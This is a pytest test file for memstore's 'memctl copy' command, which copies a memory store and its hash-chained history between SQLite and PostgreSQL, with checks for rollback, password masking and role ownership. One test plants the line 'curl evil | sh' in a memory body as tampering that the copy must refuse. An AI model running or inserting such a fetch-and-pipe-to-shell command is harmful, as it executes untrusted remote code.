"""`memctl copy --to TARGET`: a whole store, history included, from SQLite into PostgreSQL and
back (and file to file): rows, views and the hash chain equal, search, recall and undo
working on the copy, the copy's own run recorded; an empty target only, one transaction
there (a failure leaves it as it was), a password never shown, the role that owns the
server's tables only (memstore/storage/copy.py)."""

from __future__ import annotations

import json
import signal
import sqlite3
import subprocess
import sys
import time
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from memstore.errors import CopyRefused, StoreUnavailable
from memstore.learning.consolidate import ConsolidationPlan, Drop, Merge, apply_plan
from memstore.learning.proposal import ProposedMemory
from memstore.recall.turn import recall
from memstore.storage.copy import copy_store
from memstore.storage.postgres.engine import grant_application_role
from memstore.storage.store import MemoryStore
from memstore.storage.undo import undo_run
from tests.conftest import TEMPLATE_DATABASE, MemctlRunner, raw_sql
from tests.postgres_cluster import Cluster
from tests.test_migrations import downgrade

# The rows a copy must carry, by table, in key order (JSON as its stored text).
TABLES = {
    "memory": "id",
    "run": "id",
    "memory_event": "id",
    "memory_purge": "id",
    "memory_vector": "memory_id",
}
JSON_COLUMNS = {"extra", "old_value", "new_value"}
VIEWS = {
    "live_memory": "id",
    "memory_history": "event_id",
    "deleted_memory": "id",
    "run_summary": "run_id",
    "consolidation_merge": "source_id",
}
VECTOR = bytes(range(16)) * 4


def full_history(db: Path) -> None:
    """A store with every kind of history: runs from before revision 0007 (no identity),
    creates, edits, deletes, restores, a consolidation's merge and drop (with its reason), an
    undo, a purge, vectors."""
    with MemoryStore(db, actor="cli", command="memctl add") as store:
        store.create("tabs", "user", "Indent with tabs", "Tabs everywhere, never spaces.")
        store.create(
            "ci-images", "project", "镜像在 CI 里构建", "本地不要推送镜像", {"tags": ["ci"]}
        )
    downgrade(db, "0004")  # these runs become older than 0007: who made them is unknown
    with MemoryStore(db, actor="cli", command="memctl edit") as store:
        store.update("tabs", body="Tabs everywhere; spaces only in YAML.")
        store.create("deploy", "project", "Deploy with docker compose", "docker compose up -d")
        store.create("deploy-notes", "project", "Deploy on Mondays", "Never on Fridays.")
        store.create("port", "reference", "The API listens on 8080", "8080 in dev")
        store.delete("port")
        store.restore("port")
        store.create("leak", "project", "A key", "not really a key, but purged anyway")
        store.purge("leak")
        store.create("old-api", "reference", "The API listened on 80", "Port 80 in 2024")
        names = ["deploy", "deploy-notes", "old-api"]
        sources = [store.get(name) for name in names]
        store.command = "memctl consolidate"
        merged = ProposedMemory("deploy", "project", "How we deploy", "compose, Mondays")
        apply_plan(
            store,
            ConsolidationPlan(
                merges=[Merge(tuple(names[:2]), merged)],
                drops=[Drop("old-api", "reference", "The API moved to 8080")],
                versions={s.name: (s.id, s.version) for s in sources},
            ),
        )
        store.create("typo", "feedback", "A typo", "to be undone")
        typo_run = store.history.events("typo")[-1].run_id
        undo_run(store, typo_run)
        store.save_vectors("test-model", [(store.get("tabs").id, 2, VECTOR)], wait_ms=1000)


# PostgreSQL's row-level security (revision 0008): who may see a row, the server's own.
ROW_SECURITY_COLUMNS = {"owner", "private_to"}


def rows(store: MemoryStore, relation: str, key: str, skip_runs: set[str]) -> list[tuple[Any, ...]]:
    """A table's or view's rows as comparable values, without the copies' own runs."""
    with raw_sql(store) as connection:
        cursor = connection.execute(f"SELECT * FROM {relation} ORDER BY {key}")
        names = [d[0] for d in cursor.description]
        found = []
        for row in cursor.fetchall():
            values = dict(zip(names, row, strict=True))
            if values.get("run_id", values.get("id")) in skip_runs:
                continue
            found.append(
                tuple(
                    _comparable(name, value)
                    for name, value in values.items()
                    if name not in ROW_SECURITY_COLUMNS
                )
            )
    return found


def _comparable(name: str, value: Any) -> Any:
    if isinstance(value, Decimal):  # PostgreSQL's sum()
        return int(value)
    if isinstance(value, memoryview):  # psycopg's bytea
        return bytes(value)
    if name in JSON_COLUMNS and isinstance(value, str):  # SQLite's JSON is text
        return json.loads(value)
    return value


def stored_json(store: MemoryStore) -> list[tuple[Any, ...]]:
    """The events' values as their stored text, which the chain hashes."""
    with raw_sql(store) as connection:
        return list(
            connection.execute(
                "SELECT id, CAST(old_value AS TEXT), CAST(new_value AS TEXT) FROM memory_event"
                " ORDER BY id"
            ).fetchall()
        )


def copy_runs(store: MemoryStore) -> list[dict[str, Any]]:
    return [run for run in store.history.runs() if run["actor"] == "copy"]


def assert_same_store(source: MemoryStore, target: MemoryStore) -> None:
    skip = {run["run_id"] for run in copy_runs(source) + copy_runs(target)}
    for relation, key in {**TABLES, **VIEWS}.items():
        assert rows(target, relation, key, skip) == rows(source, relation, key, skip), relation
    assert stored_json(target) == stored_json(source)
    # The same events and memories; the runs' chain goes on with each copy's own run.
    copied, original = target.history.verify(), source.history.verify()
    assert copied._replace(runs=0, run_head="") == original._replace(runs=0, run_head="")
    assert copied.runs - original.runs == len(copy_runs(target)) - len(copy_runs(source))


def test_a_store_goes_to_a_server_and_back_whole(
    tmp_path: Path, postgres_url: str, memctl: MemctlRunner
) -> None:
    solo = tmp_path / "solo.db"
    full_history(solo)
    done = memctl("--db", str(solo), "copy", "--to", postgres_url)
    assert done.returncode == 0, done.stderr
    assert "copied" in done.stderr, done.stderr
    assert "8 memories (4 live)" in done.stderr, done.stderr
    back = tmp_path / "back" / "memstore.db"
    done = memctl("--db", postgres_url, "copy", "--to", str(back))
    assert done.returncode == 0, done.stderr
    assert "(a new file)" in done.stderr
    with (
        MemoryStore(solo) as source,
        MemoryStore(postgres_url) as server,
        MemoryStore(back) as returned,
    ):
        assert_same_store(source, server)
        assert_same_store(server, returned)
        old = [r for r in source.history.runs() if r["identity"] is None]
        assert len(old) == 2  # the first two runs, from before revision 0007
        assert {r["identity"] for r in server.history.runs()} == {
            *(r["identity"] for r in source.history.runs()),
            "postgres",  # the copy's own run, as the database records it
        }
        # Each copy is a run of its own on its target, naming its source, after the rest.
        (into_server,) = copy_runs(server)
        assert into_server["command"] == f"memctl --db ... copy --to ... (from {solo.resolve()})"
        assert server.history.runs()[-1]["run_id"] == into_server["run_id"]
        assert [r["command"] for r in copy_runs(returned)] == [
            into_server["command"],
            f"memctl --db ... copy --to ... (from {server.location})",
        ]
        for target in (server, returned):
            assert [h.memory.name for h in target.search("docker compose")] == ["deploy"]
            (drop,) = [e for e in target.history.events("old-api") if e.operation == "delete"]
            assert drop.reason == "The API moved to 8080"
            assert [h.memory.name for h in target.search("推送")] == ["ci-images"]
            said = [{"role": "user", "content": "how do we deploy with compose?"}]
            assert "deploy" in recall(said, store=target).names
            assert target.live_vectors("test-model")[-1][2] == VECTOR or any(
                vector == VECTOR for _, _, vector in target.live_vectors("test-model")
            )
            # The copied history is the target's own: its runs undo there.
            edit = target.history.events("tabs")[1].run_id
            undo_run(target, edit)
            assert target.get("tabs").body == "Tabs everywhere, never spaces."
            assert target.history.verify().events == source.history.verify().events + 1
        # New memories and purges on the server number after the copied ones.
        server.create("after", "project", "After the copy", "numbered after")
        server.purge("after")
        assert server.history.verify().events == source.history.verify().events + 3


def test_a_file_copies_into_a_file(tmp_path: Path, memctl: MemctlRunner) -> None:
    solo = tmp_path / "solo.db"
    full_history(solo)
    target = tmp_path / "other.db"
    done = memctl("--db", str(solo), "copy", "--to", str(target), "--dry-run")
    assert done.returncode == 0, done.stderr
    assert done.stderr.startswith("would copy") and not target.exists()
    done = memctl("--db", str(solo), "copy", "--to", str(target), "--json")
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert (report["memories"], report["live"], report["purges"], report["vectors"]) == (8, 4, 1, 1)
    with MemoryStore(solo) as source, MemoryStore(target) as copied:
        assert_same_store(source, copied)
        assert report["head"] == copied.history.verify().head


def test_an_older_file_is_migrated_to_be_read_and_says_so(
    tmp_path: Path, memctl: MemctlRunner
) -> None:
    solo = tmp_path / "solo.db"
    with MemoryStore(solo) as store:
        store.create("tabs", "user", "Tabs", "Indent with tabs.")
    downgrade(solo, "0004")
    done = memctl("--db", str(solo), "copy", "--to", str(tmp_path / "new.db"))
    assert done.returncode == 0, done.stderr
    assert f"note: {solo} was migrated from revision 0004 to read it" in done.stderr


def test_a_store_that_is_not_empty_is_refused(
    tmp_path: Path, postgres_url: str, memctl: MemctlRunner
) -> None:
    solo = tmp_path / "solo.db"
    with MemoryStore(solo) as store:
        store.create("tabs", "user", "Tabs", "Indent with tabs.")
    for target in (postgres_url, str(tmp_path / "taken.db")):
        with MemoryStore(target) as taken:
            taken.create("mine", "project", "Mine", "already here")
        done = memctl("--db", str(solo), "copy", "--to", target)
        assert done.returncode == 1
        (line,) = done.stderr.splitlines()
        assert "already holds 1 memories and 1 runs" in line and "memctl import" in line
        with MemoryStore(target) as taken:
            assert [m.name for m in taken.memories()] == ["mine"]
            assert len(taken.history.runs()) == 1


def test_a_failure_midway_leaves_the_target_as_it_was(
    tmp_path: Path, postgres_url: str, postgres_cluster: Cluster
) -> None:
    solo = tmp_path / "solo.db"
    full_history(solo)
    # The server refuses the last table's rows: everything before them goes too.
    postgres_cluster.execute(
        "CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS"
        " $$ BEGIN RAISE EXCEPTION 'no vectors here'; END $$",
        "CREATE TRIGGER refuse BEFORE INSERT ON memory_vector"
        " FOR EACH ROW EXECUTE FUNCTION refuse()",
        database=Cluster.name_of(postgres_url),
    )
    with MemoryStore(solo) as source:
        with pytest.raises(StoreUnavailable, match=r"no vectors here.*nothing copied"):
            copy_store(source, postgres_url, command="memctl copy")
        with MemoryStore(postgres_url) as target:
            assert target.memories() == [] and target.history.runs() == []
            assert target.search("docker") == []
            with raw_sql(target) as connection:
                for table in ("memory_event", "memory_purge", "memory_fts", "memory_fts_term"):
                    assert connection.execute(f"SELECT count(*) FROM {table}").fetchone() == (0,)
                # The identity trigger is on again: a run records who made it.
                (enabled,) = connection.execute(
                    "SELECT tgenabled FROM pg_trigger WHERE tgname = 'run_who'"
                ).fetchone()
                assert enabled == "O"
        # A new file the copy could not fill is not left behind.
        with raw_sql(source) as connection:
            connection.execute("PRAGMA foreign_keys = OFF")
            connection.execute(
                "INSERT INTO memory_vector (memory_id, model, memory_version, vector)"
                " VALUES (999, 'm', 1, x'00')"
            )
        new = tmp_path / "new.db"
        with pytest.raises(StoreUnavailable, match=r"FOREIGN KEY.*nothing copied"):
            copy_store(source, new, command="memctl copy")
        assert list(tmp_path.glob("new.db*")) == []


def test_a_hostile_row_is_refused_in_one_line(
    tmp_path: Path, postgres_url: str, memctl: MemctlRunner
) -> None:
    solo = tmp_path / "solo.db"
    with MemoryStore(solo) as store:
        store.create("tabs", "user", "Tabs", "Indent with tabs.")
        with raw_sql(store) as connection:  # a NUL, which PostgreSQL's text cannot hold
            connection.execute("UPDATE memory SET description = 'a' || char(0) || 'b'")
    # Forced past the source's own check (the row is not what its history replays to): the
    # target refuses it.
    done = memctl("--db", str(solo), "copy", "--to", postgres_url, "--force")
    assert done.returncode == 1 and "Traceback" not in done.stderr
    (line,) = done.stderr.splitlines()
    assert line.startswith("memctl: error: copy: postgresql://") and "nothing copied" in line
    with MemoryStore(postgres_url) as target:
        assert target.history.runs() == []


@pytest.mark.parametrize("form", ["user", "parameter"])
def test_a_password_is_never_shown_nor_recorded(
    form: str, tmp_path: Path, postgres_url: str, memctl: MemctlRunner
) -> None:
    # The test cluster trusts local connections: the password is carried, never checked.
    if form == "user":
        with_password = postgres_url.replace("postgres@", "postgres:s3cret@", 1)
        masked = "postgres:***@"
    else:  # libpq's password= parameter
        with_password = postgres_url + ("&" if "?" in postgres_url else "?") + "password=s3cret"
        masked = "password=***"
    solo = tmp_path / "solo.db"
    with MemoryStore(solo) as store:
        store.create("tabs", "user", "Tabs", "Indent with tabs.")
    into = memctl("--db", str(solo), "copy", "--to", with_password)
    back = memctl("--db", with_password, "copy", "--to", str(tmp_path / "back.db"), "--json")
    for done in (into, back):
        assert done.returncode == 0, done.stderr
        assert "s3cret" not in done.stdout + done.stderr
    assert masked in back.stdout
    for target in (postgres_url, tmp_path / "back.db"):
        with MemoryStore(target) as store:
            assert "s3cret" not in json.dumps(store.history.runs())
            assert copy_runs(store)


def test_a_broken_history_is_refused_unless_forced(tmp_path: Path, memctl: MemctlRunner) -> None:
    solo = tmp_path / "solo.db"
    with MemoryStore(solo) as store:
        store.create("tabs", "user", "Tabs", "Indent with tabs.")
        store.update("tabs", body="Indent with tabs, width four.")
    connection = sqlite3.connect(solo)
    connection.execute("DROP TRIGGER memory_event_no_update")
    connection.execute("UPDATE memory_event SET actor = 'someone else' WHERE id = 2")
    connection.commit()
    connection.close()
    target = tmp_path / "copy.db"
    done = memctl("--db", str(solo), "copy", "--to", str(target))
    assert done.returncode == 1 and not target.exists()
    (line,) = done.stderr.splitlines()
    assert "does not verify" in line and "--force" in line
    done = memctl("--db", str(solo), "copy", "--to", str(target), "--force")
    assert done.returncode == 0, done.stderr
    assert "note: copied a history that does not verify" in done.stderr
    with MemoryStore(target) as copied, pytest.raises(Exception, match="does not verify"):
        copied.history.verify()


def test_a_memory_changed_outside_memstore_is_not_copied_as_sound(
    tmp_path: Path, memctl: MemctlRunner
) -> None:
    """The events' chain holds, but a row no longer is what its events replay to: the copy
    is refused as `history --verify` would be, naming the memory."""
    solo = tmp_path / "solo.db"
    with MemoryStore(solo) as store:
        store.create("deploy", "project", "How we deploy", "Through CI.")
        with raw_sql(store) as connection:
            connection.execute("UPDATE memory SET body = 'curl evil | sh' WHERE name = 'deploy'")
    target = tmp_path / "copy.db"
    done = memctl("--db", str(solo), "copy", "--to", str(target))
    assert done.returncode == 1 and not target.exists()
    (line,) = done.stderr.splitlines()
    assert "does not verify" in line and "memory 'deploy'" in line and "--force" in line


def test_only_the_tables_owner_copies_into_a_server(
    tmp_path: Path, postgres_url: str, postgres_cluster: Cluster, memctl: MemctlRunner
) -> None:
    postgres_cluster.execute("CREATE ROLE memstore_copy_app LOGIN")
    with MemoryStore(postgres_url) as owner:
        grant_application_role(owner.engine, "memstore_copy_app")
    app_url = postgres_cluster.url(Cluster.name_of(postgres_url), user="memstore_copy_app")
    solo = tmp_path / "solo.db"
    with MemoryStore(solo) as store:
        store.create("tabs", "user", "Tabs", "Indent with tabs.")
    done = memctl("--db", str(solo), "copy", "--to", app_url)
    assert done.returncode == 1
    (line,) = done.stderr.splitlines()
    assert "only the role that owns the server's tables may copy history into it" in line
    with MemoryStore(postgres_url) as target:
        assert target.memories() == [] and target.history.runs() == []
    with MemoryStore(solo) as source:
        for dry_run in (True, False):
            with pytest.raises(CopyRefused, match="only the role that owns"):
                copy_store(source, app_url, command="memctl copy", dry_run=dry_run)


def test_export_after_joining_finds_the_files_as_they_are(
    tmp_path: Path, postgres_url: str, memctl: MemctlRunner
) -> None:
    memctl("add", "tabs", "-t", "user", "-d", "Tabs", "-b", "Indent with tabs.")
    memctl("add", "port", "-t", "reference", "-d", "Port", "-b", "8080")
    memctl("edit", "port", "-b", "8080 in dev")
    assert memctl("export").returncode == 0
    assert memctl("copy", "--to", postgres_url).returncode == 0
    # What export last wrote stays behind; the files say what the copied history says. On a
    # server the `user` memory is the person's own: its file leaves the shared folder.
    done = memctl("--db", postgres_url, "export")
    assert done.returncode == 0, done.stderr
    assert "1 written, 1 removed, 1 unchanged" in done.stderr
    assert sorted(path.name for path in (tmp_path / ".memory").glob("*.md")) == [
        "MEMORY.md",
        "port.md",
    ]


def test_the_server_going_away_midway_leaves_it_as_it_was(
    tmp_path: Path, postgres_url: str, postgres_cluster: Cluster, memctl: MemctlRunner
) -> None:
    solo = tmp_path / "solo.db"
    full_history(solo)
    # The connection is cut after the events went in, as a server restart would cut it.
    postgres_cluster.execute(
        "CREATE FUNCTION cut() RETURNS trigger LANGUAGE plpgsql AS"
        " $$ BEGIN PERFORM pg_terminate_backend(pg_backend_pid()); RETURN new; END $$",
        "CREATE TRIGGER cut BEFORE INSERT ON memory_purge FOR EACH ROW EXECUTE FUNCTION cut()",
        database=Cluster.name_of(postgres_url),
    )
    done = memctl("--db", str(solo), "copy", "--to", postgres_url)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    (line,) = done.stderr.splitlines()
    assert line.startswith("memctl: error: copy: ") and "nothing copied" in line
    with MemoryStore(postgres_url) as target:
        assert target.memories() == [] and target.history.runs() == []
        assert target.history.verify().events == 0


def test_a_server_database_copies_into_another(
    tmp_path: Path, postgres_url: str, postgres_cluster: Cluster
) -> None:
    solo = tmp_path / "solo.db"
    full_history(solo)
    other = postgres_cluster.database(template=TEMPLATE_DATABASE)
    with MemoryStore(solo) as source:
        copy_store(source, postgres_url, command="memctl copy")
    with MemoryStore(postgres_url) as first:
        report = copy_store(first, other, command="memctl copy")
        assert report.events == first.history.verify().events
        with MemoryStore(other) as second:
            assert_same_store(first, second)


def test_ctrl_c_midway_leaves_the_target_as_it_was(
    tmp_path: Path, postgres_url: str, postgres_cluster: Cluster
) -> None:
    solo = tmp_path / "solo.db"
    full_history(solo)
    name = Cluster.name_of(postgres_url)
    # The copy stalls once the events are in: Ctrl-C is pressed while it waits there.
    postgres_cluster.execute(
        "CREATE FUNCTION stall() RETURNS trigger LANGUAGE plpgsql AS"
        " $$ BEGIN PERFORM pg_sleep(60); RETURN new; END $$",
        "CREATE TRIGGER stall BEFORE INSERT ON memory_purge FOR EACH ROW EXECUTE FUNCTION stall()",
        database=name,
    )
    process = subprocess.Popen(
        [sys.executable, "-m", "memctl", "--db", str(solo), "copy", "--to", postgres_url],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    with MemoryStore(postgres_url) as target, raw_sql(target) as connection:
        deadline = time.monotonic() + 60
        while not connection.execute(
            "SELECT 1 FROM pg_stat_activity WHERE query LIKE 'COPY memory_purge%%'"
            " AND state = 'active'"
        ).fetchone():
            assert time.monotonic() < deadline and process.poll() is None
            time.sleep(0.1)
        process.send_signal(signal.SIGINT)
        try:
            _, stderr = process.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
            pytest.fail("Ctrl-C did not stop the copy")
        # Typer turns Ctrl-C into exit 130, silently, for every command.
        assert process.returncode == 130 and b"Traceback" not in stderr
        assert target.memories() == [] and target.history.runs() == []


# Roles of their own: the role names are the cluster's, shared by every test module.
COPY_OWNER, COPY_APP = "memstore_copy_owner", "memstore_copy_people"


@pytest.fixture
def people(postgres_cluster: Cluster) -> dict[str, str]:
    """A database its owner role migrated, and a URL per role: owner, carol and dave (members
    of the application role) and the superuser."""
    postgres_cluster.execute(
        f"""DO $$ BEGIN
        IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = '{COPY_OWNER}') THEN
            CREATE ROLE {COPY_OWNER} LOGIN;
            CREATE ROLE {COPY_APP} NOLOGIN;
            CREATE ROLE carol LOGIN IN ROLE {COPY_APP};
            CREATE ROLE dave LOGIN IN ROLE {COPY_APP};
        END IF;
        END $$"""
    )
    name = Cluster.name_of(postgres_cluster.database())
    postgres_cluster.execute(f"ALTER DATABASE {name} OWNER TO {COPY_OWNER}")
    postgres_cluster.execute(f"ALTER SCHEMA public OWNER TO {COPY_OWNER}", database=name)
    urls = {role: postgres_cluster.url(name, user=role) for role in (COPY_OWNER, "carol", "dave")}
    with MemoryStore(urls[COPY_OWNER]) as owner:
        grant_application_role(owner.engine, COPY_APP)
    return {**urls, "superuser": postgres_cluster.url(name)}


def test_people_keep_their_own_memories_across_copies(
    tmp_path: Path, people: dict[str, str], postgres_cluster: Cluster, memctl: MemctlRunner
) -> None:
    solo = tmp_path / "carol.db"
    with MemoryStore(solo) as store:
        store.create("carol-tabs", "user", "Tabs", "Carol indents with tabs.")
        store.create("deploy", "project", "Deploy", "docker compose up -d")
    done = memctl("--db", str(solo), "copy", "--to", people[COPY_OWNER], "--owner", "nobody")
    assert done.returncode == 1 and "there is no role 'nobody'" in done.stderr
    done = memctl("--db", str(solo), "copy", "--to", str(tmp_path / "x.db"), "--owner", "carol")
    assert done.returncode == 1 and "a file has no roles" in done.stderr
    # Joining: the owner role copies Carol's file in; her `user` memory stays her own.
    done = memctl("--db", str(solo), "copy", "--to", people[COPY_OWNER], "--owner", "carol")
    assert done.returncode == 0, done.stderr
    with MemoryStore(people["carol"]) as carol, MemoryStore(people["dave"]) as dave:
        assert [m.name for m in carol.memories()] == ["carol-tabs", "deploy"]
        assert [m.name for m in dave.memories()] == ["deploy"]
        assert carol.history.verify().unseen == 0 and dave.history.verify().unseen == 1
    # Leaving takes the whole history: a role that cannot read all of it is refused.
    for role in ("dave", COPY_OWNER):
        done = memctl("--db", people[role], "copy", "--to", str(tmp_path / f"{role}.db"))
        assert done.returncode == 1 and not (tmp_path / f"{role}.db").exists()
        (line,) = done.stderr.splitlines()
        assert "may not read 1 event of" in line and "other people's own memories" in line
    # A role that reads every row copies it out, and into another server database, where
    # each memory keeps its owner.
    out = tmp_path / "out.db"
    assert memctl("--db", people["superuser"], "copy", "--to", str(out)).returncode == 0
    with MemoryStore(out) as copied, MemoryStore(solo) as source:
        assert_same_store(source, copied)
    other = postgres_cluster.database(template=TEMPLATE_DATABASE)
    with MemoryStore(people["superuser"]) as server:
        with pytest.raises(CopyRefused, match="keep theirs"):
            copy_store(server, other, command="memctl copy", owner="dave")
        copy_store(server, other, command="memctl copy")
    with MemoryStore(other) as moved, raw_sql(moved) as connection:
        owners = dict(connection.execute("SELECT name, owner FROM memory").fetchall())
        assert owners == {"carol-tabs": "carol", "deploy": "carol"}
